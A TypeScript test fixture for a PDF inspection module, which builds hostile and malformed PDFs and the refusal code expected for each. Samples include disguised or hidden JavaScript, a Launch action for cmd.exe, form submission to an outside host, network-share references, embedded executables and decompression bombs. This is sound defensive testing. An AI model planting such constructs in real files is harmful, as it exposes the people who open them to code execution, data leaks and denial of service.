import { deflateSync } from 'node:zlib';
import type { PdfRefusal } from '#server/kernel/pdf/inspect.ts';
import { makeBrokenPdf, makePdf, makePdfBomb } from './papers.ts';

/** A PDF with one page; `catalog`, `page` and `objects` add to it. */
export const pdf = ({ catalog = '', page = '', objects = '', trailer = '' } = {}): Buffer =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n` +
      `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]${page}>>endobj\n${objects}\ntrailer<</Root 1 0 R${trailer}>>\n%%EOF\n`,
    'latin1',
  );
const stream = (number: number, dict: string, bytes: Buffer) =>
  `${number} 0 obj<<${dict}/Length ${bytes.length}>>stream\n${bytes.toString('latin1')}\nendstream endobj\n`;
export const annot = (action: string) => ({
  page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>]`,
});
const deflated = (bytes: Buffer | string) => deflateSync(bytes);
/** An object stream: what a search of the bytes does not see. */
const hidden = (object: string) => {
  const head = '9 0 ';
  const bytes = deflated(`${head}${object}`);
  return { objects: stream(5, `/Type/ObjStm/N 1/First ${head.length}/Filter/FlateDecode`, bytes) };
};
/** Becomes 200 MB. */
const zeros = deflateSync(Buffer.alloc(200 << 20), { level: 1 });
const nested = (depth: number) => `4 0 obj${'['.repeat(depth)}${']'.repeat(depth)}endobj`;

/** Hostile and broken files, and why each is refused. */
export const HOSTILE: Readonly<Record<string, [Buffer, PdfRefusal]>> = {
  'no PDF at all': [Buffer.from('MZ this is a program'), 'NOT_PDF'],
  'an empty file': [Buffer.alloc(0), 'NOT_PDF'],
  'a head alone': [Buffer.from('%PDF-1.7\n'), 'BROKEN'],
  'a PDF without pages': [makeBrokenPdf(), 'BROKEN'],
  'a page tree that has itself as its child': [
    Buffer.from(
      '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
    ),
    'BOMB',
  ],
  'noise after the head': [
    Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(50_000, 'x<<(')]),
    'BROKEN',
  ],
  encrypted: [
    pdf({ objects: '8 0 obj<</Filter/Standard/V 2/R 3/O(x)/U(x)/P -4>>endobj', trailer: '/Encrypt 8 0 R' }),
    'ENCRYPTED',
  ],
  'JavaScript at the opening': [
    pdf({ catalog: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' }),
    'JAVASCRIPT',
  ],
  'JavaScript among the names': [
    pdf({ catalog: '/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>' }),
    'JAVASCRIPT',
  ],
  'JavaScript behind a link': [pdf(annot('<</S/JavaScript/JS(1)>>')), 'JAVASCRIPT'],
  'JavaScript with a disguised name': [
    pdf({ catalog: '/OpenAction<</S/J#61vaScript/JS(1)>>' }),
    'JAVASCRIPT',
  ],
  'JavaScript inside an object stream': [pdf(hidden('<</S/JavaScript/JS(1)>>')), 'JAVASCRIPT'],
  'JavaScript when a page closes': [pdf({ page: '/AA<</C<</S/JavaScript/JS(1)>>>>' }), 'JAVASCRIPT'],
  'a script without its kind': [pdf({ catalog: '/OpenAction<</JS(1)>>' }), 'JAVASCRIPT'],
  'a program to launch': [pdf(annot('<</S/Launch/F(cmd.exe)>>')), 'ACTION'],
  'a launch inside an object stream': [pdf(hidden('<</S/Launch/F(cmd.exe)>>')), 'ACTION'],
  'a form that is sent away': [pdf(annot('<</S/SubmitForm/F(http://malo.test)>>')), 'ACTION'],
  'data that is imported': [pdf(annot('<</S/ImportData/F(a.fdf)>>')), 'ACTION'],
  'another file that is opened': [pdf(annot('<</S/GoToR/F(\\\\\\\\servidor\\\\x.pdf)>>')), 'ACTION'],
  'an address that opens with the document': [
    pdf({ catalog: '/OpenAction 9 0 R', objects: '9 0 obj<</S/URI/URI(http://malo.test)>>endobj' }),
    'ACTION',
  ],
  'a link to a share of the network': [pdf(annot('<</S/URI/URI(file:////servidor/x)>>')), 'ACTION'],
  'a page whose text is in another file': [
    pdf({ page: '/Contents 6 0 R', objects: stream(6, '/F(\\\\\\\\servidor\\\\x)', Buffer.from('')) }),
    'ACTION',
  ],
  'a picture of another document': [
    pdf({ objects: stream(6, '/Subtype/Form/BBox[0 0 9 9]/Ref<</F(otro.pdf)/Page 0>>', Buffer.from('q Q')) }),
    'ACTION',
  ],
  'files among the names': [pdf({ catalog: '/Names<</EmbeddedFiles<</Names[]>>>>' }), 'EMBEDDED'],
  'an attached file': [
    pdf({ objects: stream(6, '/Type/EmbeddedFile', Buffer.from('MZ')), catalog: '/AF[6 0 R]' }),
    'EMBEDDED',
  ],
  'a paper clip with a file': [
    pdf({ page: '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]>>]' }),
    'EMBEDDED',
  ],
  'a file in an object stream': [pdf(hidden('<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>')), 'EMBEDDED'],
  'a dynamic form': [pdf({ catalog: '/AcroForm<</XFA[(template)4 0 R]>>' }), 'XFA'],
  'a video': [pdf({ page: '/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]>>]' }), 'MEDIA'],
  'a 3D model': [pdf({ page: '/Annots[<</Type/Annot/Subtype/3D/Rect[0 0 9 9]>>]' }), 'MEDIA'],
  'a page that inflates to 200 MB': [
    pdf({
      page: '/Contents 6 0 R',
      objects: stream(6, '/Filter/FlateDecode', zeros),
    }),
    'BOMB',
  ],
  'a stream compressed twice': [
    pdf({
      page: '/Contents 6 0 R',
      objects: stream(6, '/Filter[/FlateDecode/FlateDecode]', deflated(zeros)),
    }),
    'BOMB',
  ],
  'a compressed stream written in hexadecimal': [
    pdf({
      page: '/Contents 6 0 R',
      objects: stream(6, '/Filter[/ASCIIHexDecode/FlateDecode]', Buffer.from(`${zeros.toString('hex')}>`)),
    }),
    'BOMB',
  ],
  'an object stream that inflates to 4 GB': [makePdfBomb(), 'BOMB'],
  'arrays nested 200 deep': [pdf({ objects: nested(200) }), 'BOMB'],
  'arrays nested 200,000 deep': [pdf({ objects: nested(200_000) }), 'BROKEN'],
  'more than 25 MB': [Buffer.concat([makePdf(), Buffer.alloc(25 << 20)]), 'TOO_LARGE'],
  'more than 500 pages': [
    Buffer.from(
      `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[${'3 0 R '.repeat(501)}]/Count 501>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
    ),
    'TOO_MANY_PAGES',
  ],
};
